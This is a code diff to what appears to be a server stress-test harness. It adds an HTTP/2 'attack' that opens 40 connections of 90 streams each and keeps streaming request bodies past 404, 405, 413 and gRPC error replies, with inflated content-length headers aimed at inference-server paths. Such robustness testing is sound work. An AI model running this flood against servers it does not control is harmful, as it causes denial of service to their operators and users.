@@ -3,9 +3,11 @@
 import os
 import random
 import signal
+import struct
 import time
 
-from peer import Raw
+from h2_peer import ACK, INITIAL_WINDOW_SIZE, SETTINGS, WINDOW_UPDATE
+from peer import GRPC, H2, Raw, data
 from registry import attack
 
 HEADS = [b'%s %s HTTP/1.0\r\n\r\n' % (method, path) for method in (b'GET', b'HEAD', b'POST', b'OPTIONS', b'DELETE')
@@ -62,6 +64,66 @@ def bodies_behind_answers(target):
             n = peer.offer(peer.rest) or 0
             peer.rest, taken = peer.rest[n:] or peer.piece, taken + n
     return f'{opened} connections, {taken >> 20} MiB'
+
+
+class Uploads(H2):
+    """Bodies on all streams of a connection, as far as the server's windows go."""
+
+    def __init__(self, target):
+        super().__init__(target, wait=1)
+        self.initial, self.windows, self.out, self.open = 65535, {0: 65535}, b'', []
+
+    def begin(self, stream, path, extra):
+        self.out += self.head(stream, path, 'POST', end=False, extra=extra)
+        self.windows[stream] = self.initial
+        self.open.append(stream)
+
+    def parse(self):
+        at = 0
+        while len(self.rest) - at >= 9 and len(self.rest) - at >= 9 + (size := int.from_bytes(self.rest[at:at + 3], 'big')):
+            kind, flags, stream = struct.unpack_from('>BBI', self.rest, at + 3)
+            payload = self.rest[at + 9:at + 9 + size]
+            at += 9 + size
+            if kind == WINDOW_UPDATE:
+                self.windows[stream] = self.windows.get(stream, self.initial) + int.from_bytes(payload, 'big')
+            elif kind == SETTINGS and not flags & ACK:
+                for key, value in struct.iter_unpack('>HI', payload):
+                    self.initial = value if key == INITIAL_WINDOW_SIZE else self.initial
+        super().parse()
+
+    def go_on(self):
+        """How many bytes of bodies the socket has taken."""
+        self.open = [stream for stream in self.open if stream not in self.closed_streams]
+        if not self.out:
+            for stream in self.open:
+                n = min(16384, self.windows[0], self.windows[stream])
+                if n > 0:
+                    self.windows[0], self.windows[stream] = self.windows[0] - n, self.windows[stream] - n
+                    self.out += data(stream, bytes(n), end=False)
+        n = self.offer(self.out) or 0 if self.out else 0
+        self.out = self.out[n:]
+        return n
+
+
+@attack(quick=5)
+def h2_bodies_behind_answers(target):
+    """40 HTTP/2 connections whose 90 streams each go on with their bodies behind answers of 404, 405, 413, and gRPC's of unknown methods."""
+    kinds = [('/absent', ()), ('/livez', ()), ('/absent', (('content-length', '200000000'),)), ('/v1/chat/completions', (('content-length', '99999999999'),)),
+             ('/absent.Service/Method', GRPC), ('/v2/models/nobody/infer', (('expect', '100-continue'),))]
+    peers, opened, taken = [], 0, 0
+    while not target.over():
+        peers = [peer for peer in peers if peer.pump()]
+        while len(peers) < target.size(40, 15) and not target.over():
+            peer = Uploads(target)
+            peer.next = 1
+            peers.append(peer)
+            opened += 1
+        for peer in peers:
+            while len(peer.open) < 90:
+                peer.begin(peer.next, *kinds[peer.next // 2 % len(kinds)])
+                peer.next += 2
+            taken += peer.go_on()
+    return f'{opened} connections, {sum(peer.next // 2 for peer in peers)} streams at the end, {taken >> 20} MiB'
 
 
 @attack(seconds=10, quick=2, ends_server=True)
